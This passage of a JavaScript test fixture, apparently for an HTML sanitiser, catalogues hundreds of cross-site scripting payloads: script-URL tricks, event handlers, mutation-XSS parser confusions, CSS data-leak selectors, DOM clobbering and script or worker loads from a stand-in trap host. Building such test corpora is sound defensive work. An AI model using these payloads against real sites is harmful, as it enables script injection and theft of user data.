// What a hostile article may hold: pieces of HTML that would run a script, ask
// a foreign host for something or get in the way of the page's own scripts.
//
// A vector tells its number by `__hit(<number>)`, or by a request to a host
// named after it; in the pieces below `HIT` stands for the call, `HOST` for the
// host and `NUM` for the number.  Those marked `alone` swallow or move what
// follows them, so each must also be read by itself.

/// Hosts that nothing may be asked of are under this name.
export const TRAP = "trap.example";

/// The host that vector `n` asks.
const host = (n) => `v${n}.${TRAP}`;

/// `text` with vector `n`'s call, host and number put in.
export function armed(text, n) {
  return text.replaceAll("HIT", `__hit(${n})`).replaceAll("HOST", host(n)).replaceAll("NUM", n);
}

/// Each character as an entity.
const decimal = (text) => [...text].map((it) => `&#${it.charCodeAt(0)};`).join("");
/// Likewise, in hexadecimal, padded and without the semicolon.
const padded = (text) => [...text].map((it) => `&#x00000${it.charCodeAt(0).toString(16)}`).join("");
/// Each character by its percent code.
const percent = (text) => [...text].map((it) => `%${it.charCodeAt(0).toString(16)}`).join("");
/// Each character by its JavaScript escape.
const escaped = (text) => [...text].map((it) => `\\u{${it.charCodeAt(0).toString(16)}}`).join("");
/// Each character two bytes wide, in base 64.
const base64 = (text) => Buffer.from(text).toString("base64");

/// Addresses that are, or could be taken for, a script.  `run` says that a
/// click on such a link runs it in Chromium.
export const ADDRESSES = [
  { name: "plain", address: "javascript:HIT", run: true },
  { name: "mixed case", address: "JaVaScRiPt:HIT", run: true },
  { name: "space before", address: "   javascript:HIT", run: true },
  { name: "control characters before", address: "\u0001\u0008\u001fjavascript:HIT", run: true },
  { name: "tab inside", address: "java\tscript:HIT", run: true },
  { name: "newline inside", address: "java\nscript:HIT", run: true },
  { name: "carriage return before the colon", address: "javascript\r:HIT", run: true },
  { name: "a comment that looks like a host", address: "javascript://example.org/%0aHIT", run: true },
  { name: "a comment that looks like https", address: "javascript:/*https://example.org/*/HIT", run: true },
  { name: "percent codes after the colon", address: "javascript:%5f%5fhit(NUM)", run: true },
  { name: "NUL inside", address: "java\u0000script:HIT" },
  { name: "non-breaking space before", address: "\u00a0javascript:HIT" },
  { name: "zero-width space before", address: "\u200bjavascript:HIT" },
  { name: "byte-order mark before", address: "\ufeffjavascript:HIT" },
  { name: "line separator before", address: "\u2028javascript:HIT" },
  { name: "full-width colon", address: "javascript\uff1aHIT" },
  { name: "long s", address: "java\u017fcript:HIT" },
  { name: "right-to-left override", address: "\u202ejavascript:HIT" },
  { name: "soft hyphen inside", address: "java\u00adscript:HIT" },
  { name: "view-source of a script", address: "view-source:javascript:HIT" },
  { name: "feed of a script", address: "feed:javascript:HIT" },
  { name: "jar", address: "jar:javascript:HIT!/x" },
  { name: "vbscript", address: "vbscript:HIT" },
  { name: "livescript", address: "livescript:HIT" },
  { name: "data, HTML", address: "data:text/html,<script>HIT</script>" },
  { name: "data, base 64", address: (hit) => `data:text/html;base64,${base64(`<script>${hit}</script>`)}` },
  { name: "data, SVG", address: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HIT'/>" },
  { name: "data, XML with a style sheet", address: "data:text/xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>HIT</script></x>" },
  { name: "blob", address: "blob:https://HOST/00000000-0000-0000-0000-000000000000" },
  { name: "file", address: "file:///etc/passwd" },
  { name: "filesystem", address: "filesystem:https://HOST/temporary/x" },
  { name: "about", address: "about:blank#HIT" },
  { name: "no scheme, slashes only", address: "//HOST/link" },
  { name: "backslashes", address: "\\\\HOST\\link" },
  { name: "a name before a host", address: "https://example.org@HOST/link" },
];

const attribute = (text) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;");
const withCall = (address) => (hit) => (typeof address === "function" ? address(hit) : address);

/// `[class, [name, html, options?]...]`: html is a text or takes the call.
const CLASSES = [
  // A script element, in each way the parser comes to one.
  ["script elements", [
    ["plain", `<script>HIT</script>`],
    ["upper case, with rubbish in the tags", `<SCRIPT/x y=z >HIT</SCRIPT\t\n/>`],
    ["of a module", `<script type="module">HIT</script>`],
    ["from a host", `<script src="https://HOST/x.js"></script>`],
    ["from a host, module, without quotes", `<script type=module src=//HOST/x.mjs></script>`],
    ["from data", `<script src="data:text/javascript,HIT"></script>`],
    ["in svg", `<svg><script>HIT</script></svg>`],
    ["in svg, with entities", (hit) => `<svg><script>${decimal(hit)}</script></svg>`],
    ["in svg, by xlink", `<svg><script xlink:href="data:text/javascript,HIT"></script></svg>`],
    ["in svg, in CDATA", `<svg><script><![CDATA[HIT]]></script></svg>`],
    ["in math", `<math><script>HIT</script></math>`],
    ["nested, as a filter would join it", `<scr<script></script>ipt>HIT</scr<script></script>ipt>`],
    ["after an end tag in a string", `<script>var a = "</script><script>HIT</script>`],
    ["with an old comment", `<script><!--\nHIT\n--></script>`],
    ["double escaped", `<script><!--<script></script>--></script><script>HIT</script>`, { alone: true }],
    ["after a comment that ends at once", `<!--><script>HIT</script>-->`],
    ["after a comment that ends by --!>", `<!-- --!><script>HIT</script> -->`],
    ["in a conditional comment", `<!--[if gte IE 4]><script>HIT</script><![endif]-->`],
    ["after a CDATA that is a comment", `<![CDATA[><script>HIT</script>]]>`],
    ["after a processing instruction", `<?xml version="1.0"?><script>HIT</script>`],
    ["never closed", `<script>HIT`, { alone: true }],
    ["with a template literal", "<script>__hit`NUM`</script>"],
    ["with escapes in the name", (hit) => `<script>${hit.replace("hit", "\\u0068it")}</script>`],
    ["by a thrown error", `<script>onerror=__hit;throw NUM</script>`],
    ["by an import map and a module", `<script type="importmap">{"imports":{"x":"data:text/javascript,HIT"}}</script><script type="module">import "x"</script>`],
    ["that inserts another", `<script>document.body.appendChild(document.createElement("script")).text="HIT"</script>`],
    ["in JSON-LD that ends early", `<script type="application/ld+json">{"headline":"</script><script>HIT</script>"}</script>`],
  ]],
  // Handlers that run while loading, or at what a reader does.
  ["event handlers", [
    ["img onerror", `<img src=x onerror=HIT>`],
    ["img onload of data", `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="HIT">`],
    ["img with slashes for spaces", `<img/src=x/onerror=HIT//>`],
    ["image, an old name", `<image src=x onerror=HIT>`],
    ["svg onload", `<svg onload=HIT></svg>`],
    ["body onload", `<body onload=HIT>`],
    ["body onpageshow", `<body onpageshow=HIT>`],
    ["body onhashchange", `<body onhashchange=HIT onpopstate=HIT onresize=HIT onbeforeprint=HIT>`],
    ["video source onerror", `<video><source onerror=HIT src=x></video>`],
    ["audio onerror", `<audio src=x onerror=HIT></audio>`],
    ["video onloadstart", `<video src=x onloadstart=HIT></video>`],
    ["object onerror", `<object data=x onerror=HIT></object>`],
    ["iframe onload", `<iframe onload=HIT></iframe>`],
    ["embed onload", `<embed src="about:blank" onload=HIT>`],
    ["link onerror", `<link rel=stylesheet href=x onerror=HIT>`],
    ["style onload", `<style onload=HIT></style>`],
    ["script onerror", `<script src=x onerror=HIT></script>`],
    ["details ontoggle", `<details open ontoggle=HIT><summary>s</summary>t</details>`],
    ["marquee onstart", `<marquee onstart=HIT>m</marquee>`],
    ["input autofocus onfocus", `<input autofocus onfocus=HIT>`],
    ["any element with tabindex autofocus", `<b tabindex=0 autofocus onfocus=HIT>b</b>`],
    ["select autofocus", `<select autofocus onfocus=HIT><option>o</select>`],
    ["textarea onblur", `<textarea autofocus onblur=HIT></textarea><input autofocus>`],
    ["animate onbegin", `<svg><animate onbegin=HIT attributeName=x dur=1s></svg>`],
    ["set onend", `<svg><set attributeName=x dur=0.01s onend=HIT></set></svg>`],
    ["animateTransform onrepeat", `<svg><rect><animateTransform attributeName=transform dur=0.01s repeatCount=3 onrepeat=HIT /></rect></svg>`],
    ["dialog oncancel", `<dialog open oncancel=HIT onclose=HIT onbeforetoggle=HIT><form method=dialog><button>b</button></form></dialog>`],
    ["popover onbeforetoggle", `<button popovertarget=pop>b</button><p popover id=pop onbeforetoggle=HIT>p</p>`],
    ["onscrollend", `<div style="overflow:auto;height:9px" onscrollend=HIT><br><br><br><a name=end></a></div>`],
    ["oncontentvisibilityautostatechange", `<p style="display:block;content-visibility:auto" oncontentvisibilityautostatechange=HIT>p</p>`],
    ["ontransitionend", `<style>a.t:hover{color:red}</style><a class=t href=#x style="transition:color 1ms" ontransitionend=HIT>t</a>`],
    ["onanimationstart", `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=HIT>b</b>`],
    ["onclick", `<p onclick=HIT>p</p>`],
    ["onmouseover", `<em onmouseover=HIT>e</em>`],
    ["onpointerrawupdate", `<strong onpointerrawupdate=HIT onpointerenter=HIT>s</strong>`],
    ["onauxclick on a link", `<a href="#x" onauxclick=HIT onmousedown=HIT>a</a>`],
    ["oncopy", `<p oncopy=HIT onselectstart=HIT ondragstart=HIT draggable=true>p</p>`],
    ["onwheel", `<p onwheel=HIT onscroll=HIT ontouchstart=HIT>p</p>`],
    ["form onsubmit", `<form onsubmit=HIT onformdata=HIT><button>b</button></form>`],
    ["input oninvalid", `<form><input required oninvalid=HIT><button>b</button></form>`],
    ["keygen and isindex, old names", `<keygen autofocus onfocus=HIT><isindex onfocus=HIT autofocus>`],
    ["handler with entities", (hit) => `<img src=x onerror="${decimal(hit)}">`],
    ["handler with entities, no semicolons", (hit) => `<img src=x onerror="${padded(hit)}">`],
    ["handler in upper case", `<IMG SRC=x ONERROR="HIT">`],
    ["handler after a NUL", `<img src=x \u0000onerror=HIT>`],
    ["handler after a form feed", `<img\u000csrc=x\u000conerror\u000c=\u000cHIT>`],
    ["handler without parentheses", "<img src=x onerror='__hit`NUM`'>"],
    ["handler with a name of escapes", (hit) => `<img src=x onerror="${escaped(hit.slice(0, 5))}${hit.slice(5)}">`],
    ["template literal inside", "<img src=x onerror='`${HIT}`'>"],
    ["an unknown element", `<x onclick=HIT tabindex=1 id=x onfocus=HIT autofocus>x</x>`],
  ]],
  // Each script-like address as the link of an article.
  ["links", [
    ...ADDRESSES.map(({ name, address }) => [
      name,
      (hit) => `<p><a href="${attribute(withCall(address)(hit))}">link</a></p>`,
    ]),
    ["entities", (hit) => `<a href="${decimal("javascript:" + hit)}">link</a>`],
    ["padded entities", (hit) => `<a href="${padded("javascript:" + hit)}">link</a>`],
    ["named entities", `<a href="java&Tab;script&colon;HIT">link</a>`],
    ["newline entity", `<a href="&NewLine;javascript&colon;HIT">link</a>`],
    ["percent codes of the scheme", `<a href="${percent("javascript")}:HIT">link</a>`],
    ["no quotes", `<a href=javascript:HIT>link</a>`],
    ["twice", `<a href="javascript:HIT" href="https://example.org/">link</a>`],
    ["ping", `<a href="https://example.org/" ping="https://HOST/ping">link</a>`],
    ["attribution", `<a href="https://example.org/" attributionsrc="https://HOST/source">link</a>`],
    ["download", `<a href="data:text/html,x" download="x.html">link</a>`],
    ["javascript that is text first", `<a href="javascript:'<script>opener.HIT</script>'">link</a>`],
  ]],
  // Other places of an address.
  ["addresses", [
    ["area", `<img usemap=#m src=x width=9 height=9><map name=m><area shape=default href=javascript:HIT></map>`],
    ["form action", `<form action="javascript:HIT"><button>b</button></form>`],
    ["formaction", `<form><button formaction="javascript:HIT">b</button></form>`],
    ["input formaction", `<form><input type=submit formaction=javascript:HIT value=b></form>`],
    ["input image", `<form><input type=image src=x formaction=javascript:HIT></form>`],
    ["form to a host", `<form action="https://HOST/form"><input name=a value=b><button>b</button></form>`],
    ["formaction from afar", `<form id=far></form><button form=far formaction=javascript:HIT>b</button>`],
    ["iframe", `<iframe src="javascript:parent.HIT"></iframe>`],
    ["iframe of a host", `<iframe src="https://HOST/frame"></iframe>`],
    ["iframe of data", `<iframe src="data:text/html,<script>HIT</script>"></iframe>`],
    ["object", `<object data="javascript:HIT"></object>`],
    ["embed", `<embed src="javascript:HIT">`],
    ["base of a script", `<base href="javascript:HIT//"><a href="#">link</a>`, { alone: true }],
    ["base of a host", `<base href="https://HOST/"><img src="base.png"><a href="x">link</a>`, { alone: true }],
    ["xlink", `<svg><a xlink:href="javascript:HIT"><text y=20>link</text></a></svg>`],
    ["svg link", `<svg><a href="javascript:HIT"><text y=20>link</text></a></svg>`],
    ["svg link, animated", `<svg><a><animate attributeName=href values=javascript:HIT /><text y=20>link</text></a></svg>`],
    ["svg link, set", `<svg><a id=s href=#><set attributeName=href to=javascript:HIT /><text y=20>link</text></a></svg>`],
    ["svg link, animated by its name", `<svg><animate xlink:href=#q attributeName=href values=javascript:HIT /><a id=q><text y=20>link</text></a></svg>`],
    ["math link", `<math><mtext href="javascript:HIT">link</mtext></math>`],
    ["math maction", `<math><maction actiontype=statusline xlink:href="javascript:HIT">x<mtext>l</mtext></maction></math>`],
    ["background", `<body background="javascript:HIT"><table background="https://HOST/table.png"><td background="https://HOST/cell.png">c</table>`],
    ["lowsrc and dynsrc", `<img lowsrc="javascript:HIT" dynsrc="javascript:HIT" src="https://HOST/low.png">`],
    ["cite and longdesc", `<blockquote cite="javascript:HIT"><img longdesc="javascript:HIT" alt=x>q</blockquote>`],
    ["manifest of html", `<html manifest="https://HOST/manifest">`],
    ["isindex action", `<isindex action="javascript:HIT" type=image>`],
  ]],
  // Frames, plug-ins and other pages inside.
  ["frames", [
    ["srcdoc", `<iframe srcdoc="<script>parent.HIT</script>"></iframe>`],
    ["srcdoc with entities", `<iframe srcdoc="&lt;img src=x onerror=parent.HIT&gt;"></iframe>`],
    ["srcdoc twice over", `<iframe srcdoc="<iframe srcdoc='<script>top.HIT</script>'></iframe>"></iframe>`],
    ["srcdoc in a sandbox", `<iframe sandbox="allow-scripts allow-modals" srcdoc="<script>HIT</script>"></iframe>`],
    ["lazy", `<iframe loading=lazy srcdoc="<script>parent.HIT</script>"></iframe>`],
    ["name that is a script", `<iframe name="HIT" src="javascript:eval(name)"></iframe>`],
    ["frameset", `<frameset onload=HIT><frame src="javascript:parent.HIT"></frameset>`, { alone: true }],
    ["object of HTML", `<object type="text/html" data="https://HOST/object"></object>`],
    ["object with params", `<object><param name=movie value="https://HOST/x.swf"><embed src="https://HOST/y.swf" allowscriptaccess=always></object>`],
    ["applet", `<applet code="javascript:HIT" archive="https://HOST/x.jar">a</applet>`],
    ["portal", `<portal src="https://HOST/portal" onload=HIT></portal>`],
    ["fenced frame", `<fencedframe src="https://HOST/fenced"></fencedframe>`],
    ["noframes", `<noframes><script>HIT</script></noframes>`],
    ["iframe that holds text", `<iframe></iframe ><img src=x onerror=HIT></iframe>`],
  ]],
  // What the head of a page orders the browser to do.
  ["meta and link", [
    ["refresh to a script", `<meta http-equiv=refresh content="0;url=javascript:HIT">`],
    ["refresh to data", `<meta http-equiv="refresh" content="0; url=data:text/html,<script>HIT</script>">`],
    ["refresh to a host", `<META HTTP-EQUIV="Refresh" CONTENT="0;https://HOST/refresh">`, { alone: true }],
    ["refresh with odd separators", `<meta http-equiv=refresh content="0 , 'https://HOST/odd'">`, { alone: true }],
    ["a policy of its own", `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'; report-uri https://HOST/report"><script>HIT</script>`],
    ["a cookie", `<meta http-equiv=Set-Cookie content="hit=NUM">`],
    ["referrer policy", `<meta name=referrer content=unsafe-url><img src="https://HOST/referrer.png">`],
    ["style sheet", `<link rel=stylesheet href="https://HOST/x.css">`],
    ["alternate style sheet", `<link rel="alternate stylesheet" href="//HOST/y.css" title=t>`],
    ["style sheet of data", `<link rel=stylesheet href="data:text/css,body{background:url(https://HOST/data-css.png)}">`],
    ["import", `<link rel=import href="https://HOST/import">`],
    ["preload", `<link rel=preload as=image href="https://HOST/preload.png">`],
    ["preload by srcset", `<link rel=preload as=image imagesrcset="https://HOST/preload2.png 1x">`],
    ["module preload", `<link rel=modulepreload href="https://HOST/preload.mjs">`],
    ["prefetch", `<link rel=prefetch href="https://HOST/prefetch">`],
    ["prerender", `<link rel=prerender href="https://HOST/prerender">`],
    ["dns-prefetch and preconnect", `<link rel=dns-prefetch href="//HOST"><link rel=preconnect href="https://HOST">`],
    ["icon", `<link rel="shortcut icon" href="https://HOST/icon.png">`],
    ["manifest", `<link rel=manifest href="https://HOST/manifest.json">`],
    ["dictionary", `<link rel=compression-dictionary href="https://HOST/dictionary">`],
    ["speculation rules", `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://HOST/speculation"]}],"prerender":[{"source":"list","urls":["/?hit=NUM"]}]}</script>`],
  ]],
  // Style that asks for something, or that once ran scripts.
  ["style", [
    ["import", `<style>@import "https://HOST/import.css";</style>`],
    ["import by url, with escapes", `<style>@\\69mport url(//HOST/import2.css);</style>`],
    ["background of the page", `<style>body{background:url(https://HOST/body.png)}</style>`],
    ["background of an element", `<p style="background:url(https://HOST/style.png)">p</p>`],
    ["image set", `<p style="background:image-set('https://HOST/set.png' 1x)">p</p>`],
    ["list image, cursor, content", `<style>li{list-style-image:url(//HOST/list.png)}p{cursor:url(//HOST/cursor.png),auto}p::before{content:url(//HOST/content.png)}</style><ul><li>l</ul>`],
    ["font", `<style>@font-face{font-family:f;src:url(https://HOST/f.woff2)}*{font-family:f}</style>`],
    ["attribute selectors that read", `<style>input[value^=a]{background:url(//HOST/a)}[data-block="0"]{background:url(//HOST/b)}</style>`],
    ["expression", `<p style="width:expression(HIT)">p</p>`],
    ["binding and behaviour", `<p style="-moz-binding:url(https://HOST/x.xml#x);behavior:url(https://HOST/x.htc)">p</p>`],
    ["script address", `<style>body{background:url("javascript:HIT")}</style>`],
    ["custom property", `<style>:root{--surface:url(https://HOST/var.png)}p{background:var(--surface)}</style><p>p</p>`],
    ["style that ends early", `<style>a{content:"</style><img src=x onerror=HIT>"}</style>`],
    ["style in svg", `<svg><style>*{background:url(https://HOST/svg-style.png)}</style></svg>`],
    ["shows what is hidden, hides the app", `<style>*{display:none!important}</style>`],
    ["over everything", `<a href="https://HOST/over" style="position:fixed;inset:0;z-index:99999">over</a>`],
    ["never closed", `<style>*{color:red`, { alone: true }],
  ]],
  // Elements that keep their content apart.
  ["templates and shadow trees", [
    ["template", `<template><script>HIT</script><img src=x onerror=HIT></template>`],
    ["declarative shadow tree", `<div><template shadowrootmode=open><script>HIT</script><img src=x onerror=HIT></template></div>`],
    ["closed shadow tree", `<p><template shadowrootmode=closed><img src="https://HOST/shadow.png" onerror=HIT></template>p</p>`],
    ["shadow tree, an old name", `<div><template shadowroot=open><style>@import "//HOST/shadow.css"</style><slot onslotchange=HIT></slot></template></div>`],
    ["nested templates", `<template><template></template><script>HIT</script></template>`],
    ["template in svg", `<svg><template><script>HIT</script></template></svg>`],
    ["custom element", `<x-hit onclick=HIT is=x>x</x-hit><script>customElements.define("x-hit",class extends HTMLElement{connectedCallback(){HIT}})</script>`],
    ["slot of a customised element", `<button is="x-b" onclick=HIT>b</button><slot onclick=HIT>s</slot>`],
    ["selectedcontent", `<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=HIT>o</option></select>`],
  ]],
  // Names that would stand before the page's own.
  ["DOM clobbering", [
    ["ids of globals", `<a id=location href="https://HOST/"></a><a id=document></a><a id=localStorage></a><a id=trustedTypes></a>`],
    ["names of document properties", `<img name=getElementById><img name=body><img name=createElement><form name=querySelector></form>`],
    ["a form that hides its methods", `<form id=f><input name=attributes><input name=parentNode><input name=removeChild><input name=submit><input name=nodeName></form>`],
    ["two of a name", `<a id=config></a><a id=config name=url href="javascript:HIT"></a>`],
    ["three levels", `<form id=a name=b><output id=b><input name=c value=HIT></output></form>`],
    ["iframe of a name", `<iframe name=wasm_bindgen srcdoc="<a id=init></a>"></iframe>`],
    ["the app's own ids", `<div id=start>x</div><textarea id=paste data-testid=paste-area></textarea><div data-testid=reader data-start=0>x</div>`],
    ["the app's own data", `<p class=text__block data-block=0 data-start=0 data-skip data-facts="x" data-item=0>p</p>`],
    ["prototype names as ids", `<p id=__proto__>p</p><p id=constructor>p</p><p id=toString>p</p><a name=hasOwnProperty>a</a>`],
    ["the starting script's own element", `<script data-wasm="https://HOST/x.wasm" data-js="https://HOST/x.js" src="start.js"></script>`],
  ]],
  // Text that means another thing when it is parsed a second time.
  ["mutation", [
    ["math, style in mglyph", `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT></style></mglyph></form>`, { alone: true }],
    ["math, table, mglyph", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HIT&gt;"></table></mtext></math>`, { alone: true }],
    ["svg, style, title", `<svg><style><img title="</style><img src=x onerror=HIT>"></style></svg>`],
    ["svg, p, style", `<svg></p><style><a title="</style><img src=x onerror=HIT>">`, { alone: true }],
    ["svg, desc, style", `<svg><desc><style><a id="</style><img src=x onerror=HIT>"></a></style></desc></svg>`],
    ["svg, title, textarea", `<svg><title><textarea><a title="</textarea><img src=x onerror=HIT>"></textarea></title></svg>`],
    ["foreignObject", `<svg><foreignObject><iframe srcdoc="<script>parent.HIT</script>"></iframe><img src=x onerror=HIT></foreignObject></svg>`],
    ["annotation-xml of HTML", `<math><annotation-xml encoding="text/html"><img src=x onerror=HIT></annotation-xml></math>`],
    ["annotation-xml of nothing", `<math><annotation-xml><style><img src=x onerror=HIT></style></annotation-xml></math>`],
    ["malignmark", `<math><mi><malignmark><style><!--</style><a title="--><img src=x onerror=HIT>"></malignmark></mi></math>`, { alone: true }],
    ["noscript", `<noscript><p title="</noscript><img src=x onerror=HIT>"></p></noscript>`],
    ["textarea", `<textarea><p title="</textarea><img src=x onerror=HIT>"></textarea>`],
    ["title", `<title><p title="</title><img src=x onerror=HIT>"></title>`],
    ["xmp", `<xmp><p title="</xmp><img src=x onerror=HIT>"></p></xmp>`],
    ["noembed", `<noembed><p title="</noembed><img src=x onerror=HIT>"></p></noembed>`],
    ["noframes", `<noframes><p title="</noframes><img src=x onerror=HIT>"></p></noframes>`],
    ["listing and pre", `<listing>\n&lt;img src=x onerror=HIT&gt;</listing><pre>\n\n&lt;script&gt;HIT&lt;/script&gt;</pre>`],
    ["plaintext", `<plaintext><img src=x onerror=HIT></plaintext><script>HIT</script>`, { alone: true }],
    ["select", `<select><style></select><img src=x onerror=HIT></style></select>`, { alone: true }],
    ["select, keygen", `<select><keygen><script>HIT</script></select>`],
    ["table, foster parents", `<table><tr><td><table><a href="javascript:HIT"><tr><img src=x onerror=HIT></table></table>`, { alone: true }],
    ["caption, colgroup", `<table><caption><svg></caption><style><!--</style><img src=x onerror=HIT>--></table>`, { alone: true }],
    ["forms in forms", `<form id=o></form><form id=i><div></form><form><math><mtext><form><style></form><img src=x onerror=HIT>`, { alone: true }],
    ["deep nesting", `${"<div>".repeat(600)}<img src=x onerror=HIT>${"</div>".repeat(600)}`],
    ["deep formatting", `${"<b><i>".repeat(200)}<a href=javascript:HIT>l</a>${"</p>".repeat(20)}<svg onload=HIT>`, { alone: true }],
    ["p in a button in a p", `<p><button><p><svg><desc><button><style><p title="</style><img src=x onerror=HIT>">`, { alone: true }],
    ["font with colour breaks out of svg", `<svg><font color=x><img src=x onerror=HIT></font></svg>`],
    ["br end tag in math", `<math></br><img src=x onerror=HIT></math>`],
    ["comment in CDATA", `<svg><![CDATA[<!--]]><img src=x onerror=HIT>--></svg>`],
    ["entities twice", `&lt;img src=x onerror=HIT&gt; &amp;lt;script&amp;gt;HIT&amp;lt;/script&amp;gt;`],
    ["attribute with backtick", "<img alt=\"``onerror=HIT src=x\">"],
  ]],
  // What a parser may read otherwise than a browser.
  ["parser tricks", [
    ["attribute never closed", `<img src="x onerror=HIT><p title="> <img src=x onerror=HIT>">`, { alone: true }],
    ["tag never closed", `<p>text</p><img src=x onerror=HIT `, { alone: true }],
    ["attribute twice", `<img src=x onerror="0" onerror="HIT"><img onerror="HIT" onerror="0" src=x>`],
    ["quote in a name", `<img " onerror=HIT src=x "><img ' ' onerror='HIT' src=x>`],
    ["equals sign first", `<img =x src=x onerror=HIT>`],
    ["less-than in a name", `<img<x src=x onerror=HIT><a<b href=javascript:HIT>l</a>`],
    ["NUL in a tag name", `<scr\u0000ipt>HIT</scr\u0000ipt><i\u0000mg src=x onerror=HIT>`],
    ["long tag name", `<${"a".repeat(5000)} onclick=HIT>l</${"a".repeat(5000)}><img src=x onerror=HIT>`],
    ["long attribute", `<img ${"x".repeat(9000)}="${"y".repeat(9000)}" src=x onerror=HIT>`],
    ["many attributes", `<img ${Array.from({ length: 600 }, (_, n) => `a${n}=b`).join(" ")} src=x onerror=HIT>`],
    ["end tag with attributes", `</p onclick=HIT><img src=x onerror=HIT></img/>`],
    ["bogus comment", `</ ><img src=x onerror=HIT><//><!x><img src=x onerror=HIT>`],
    ["doctype inside", `<!doctype html [<!entity x "HIT">]><img src=x onerror=HIT>`],
    ["entity without its end", `<a href="javascript&colonHIT">l</a><a href="javascript&#58HIT">l</a>`],
    ["overlong and invalid code points", `<a href="&#xD800;javascript:HIT">l</a><a href="&#x110000;javascript:HIT">l</a>\udc00<img src=x onerror=HIT>`],
    ["UTF-7", `<meta charset=utf-7>+ADw-script+AD4-HIT+ADw-/script+AD4-`],
    ["ISO-2022-JP escapes", `<meta charset=iso-2022-jp>\u001b$B<img alt="\u001b(B" onerror=HIT src=x>`],
    ["bytes of an overlong less-than", `\u00c0\u00bcscript\u00c0\u00beHIT\u00c0\u00bc/script\u00c0\u00be<script>HIT</script>`],
    ["full-width brackets", `\uff1cscript\uff1eHIT\uff1c/script\uff1e<script>HIT</script>`],
    ["server-side tags", `<% <script>HIT</script> %><?php <img src=x onerror=HIT> ?>`],
    ["fragment marks of the clipboard", `<!--EndFragment--><script>HIT</script><!--StartFragment-->`],
    ["another html and body", `</body></html><html onclick=HIT><body onload=HIT><img src=x onerror=HIT>`, { alone: true }],
    ["a head inside", `<head><base href=javascript:HIT//><script>HIT</script></head>`],
    ["XML declarations", `<x:script xmlns:x="http://www.w3.org/1999/xhtml">HIT</x:script><svg:script>HIT</svg:script><img src=x onerror=HIT>`],
  ]],
  // Pictures, film and sound: asked for as soon as they are in a page.
  ["media", [
    ["picture", `<img src="https://HOST/picture.png" alt="picture of HIT">`],
    ["srcset", `<img srcset="https://HOST/1.png 1x, https://HOST/2.png 2x" sizes=100vw>`],
    ["picture and source", `<picture><source srcset="https://HOST/source.webp"><img src="https://HOST/fallback.png"></picture>`],
    ["lazy names of scripts", `<figure><img data-src="https://HOST/lazy.png" data-original="https://HOST/original.png" src="data:,"><figcaption>c</figcaption></figure>`],
    ["lazy picture in noscript", `<figure><noscript><img src="https://HOST/noscript.png" onerror=HIT></noscript><figcaption>c</figcaption></figure>`],
    ["video and poster", `<video poster="https://HOST/poster.png" src="https://HOST/film.mp4" autoplay></video>`],
    ["audio", `<audio preload=auto src="https://HOST/sound.mp3"></audio>`],
    ["track", `<video><source src="https://HOST/v.webm"><track default src="https://HOST/track.vtt"></video>`],
    ["bgsound", `<bgsound src="https://HOST/bg.mid"><embed src="https://HOST/embed.mid">`],
    ["input image", `<input type=image src="https://HOST/input.png">`],
    ["picture of a script", `<figure><img src="javascript:HIT" alt=x><figcaption>c</figcaption></figure>`],
    ["picture of data SVG", `<figure><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HIT'><image href='https://HOST/inner.png'/></svg>"></figure>`],
    ["attribution", `<img attributionsrc="https://HOST/attribution" src="https://HOST/a.png" crossorigin=use-credentials>`],
  ]],
  // SVG and MathML that draw from elsewhere.
  ["svg and math", [
    ["use", `<svg><use href="https://HOST/x.svg#x"></use></svg>`],
    ["use of data", `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='HIT'/></svg>#x"></use></svg>`],
    ["image", `<svg><image href="https://HOST/image.png" onerror=HIT></image></svg>`],
    ["xlink image", `<svg><image xlink:href="https://HOST/xlink.png"></image></svg>`],
    ["feImage", `<svg width=9 height=9><filter id=fi><feImage href="https://HOST/fe.png" /></filter><rect width=9 height=9 filter="url(#fi)" /></svg>`],
    ["filter of a host", `<svg><rect width=9 height=9 filter="url(https://HOST/f.svg#f)" fill="url(https://HOST/p.svg#p)" /></svg>`],
    ["handler", `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>HIT</handler></svg>`],
    ["discard and animateMotion", `<svg><discard begin=0s onbegin=HIT /><animateMotion onbegin=HIT dur=1s /></svg>`],
    ["cursor and font-face-uri", `<svg><cursor xlink:href="https://HOST/c.cur" /><font-face-src><font-face-uri href="https://HOST/f.svg" /></font-face-src></svg>`],
    ["style sheet instruction", `<?xml-stylesheet href="javascript:HIT"?><svg onload=HIT></svg>`],
    ["math with a picture", `<math><semantics><annotation-xml encoding="application/xhtml+xml"><img src="https://HOST/math.png" onerror=HIT></annotation-xml></semantics></math>`],
    ["math handlers", `<math><mrow onclick=HIT tabindex=0 autofocus onfocus=HIT><mi>x</mi></mrow></math>`],
  ]],
  // Ways around a policy of the page.
  ["policies", [
    ["default policy of trusted types", `<script>trustedTypes.createPolicy("default",{createHTML:x=>x,createScript:x=>x});document.body.insertAdjacentHTML("beforeend","<img src=x onerror=HIT>")</script>`],
    ["a policy of the app's name", `<script>try{trustedTypes.createPolicy("postil",{})}finally{HIT}</script>`],
    ["parser that is no sink", `<script>document.body.append(Document.parseHTMLUnsafe("<img src=x onerror=HIT>").body.firstChild)</script>`],
    ["markup left dangling", `<img src='https://HOST/dangling?`, { alone: true }],
    ["markup left dangling, base target", `<a href="https://HOST/"><base target='`, { alone: true }],
    ["a nonce of its own", `<script nonce="x">HIT</script><link rel=stylesheet nonce=x href="https://HOST/nonce.css">`],
    ["the app's own script", `<script src="start.js"></script><script src="worker.js" type=module></script><img src=x onerror=HIT>`],
    ["worker", `<script>new Worker(URL.createObjectURL(new Blob(["fetch('https://HOST/worker')"])));HIT</script>`],
    ["import of data", `<script>import("data:text/javascript,HIT")</script>`],
    ["evaluation", `<script>setTimeout("HIT");Function("HIT")();eval("HIT")</script>`],
